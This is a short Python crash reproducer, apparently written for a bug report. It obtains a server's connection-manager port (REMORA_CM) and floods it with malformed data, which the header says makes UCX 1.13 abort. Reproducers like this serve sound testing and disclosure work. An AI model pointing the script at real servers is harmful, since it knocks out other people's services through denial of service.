#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
# Reproducer: garbage to the connection-manager port a server opens for a
# client (REMORA_CM=1). Usage: cm_garbage.py HOST PORT [ROUNDS]. UCX 1.13 aborts.
import socket, struct, sys, os, time, random
host, port = sys.argv[1], int(sys.argv[2])
def get_cm_port():
    for nib in range(16):
        s = socket.create_connection((host, port))
        payload = bytes([nib]) + os.urandom(31)
        s.sendall(struct.pack('<IHHI', 0x42524d52, 1, 1, len(payload)) + payload)
        s.settimeout(2)
        try:
            hdr = s.recv(12)
        except Exception:
            hdr = b''
        if len(hdr) == 12:
            magic, ver, flags, ln = struct.unpack('<IHHI', hdr)
            body = s.recv(ln)
            if flags & 1 and ln == 2:
                return s, body[0] | (body[1] << 8)
        s.close()
    return None, None
kinds = [b'\x00'*64, os.urandom(4096), b'\xff'*16, struct.pack('<Q', 0xffffffffffffffff)*8, b'GET / HTTP/1.0\r\n\r\n']
for i, g in enumerate(kinds * int(sys.argv[3] if len(sys.argv) > 3 else 1)):
    boot, cmport = get_cm_port()
    if boot is None:
        print("no CM port offered"); sys.exit(1)
    c = socket.create_connection((host, cmport))
    c.sendall(g)
    time.sleep(0.2)
    c.close(); boot.close()
print("sent", len(kinds) * int(sys.argv[3] if len(sys.argv) > 3 else 1), "garbage connections")
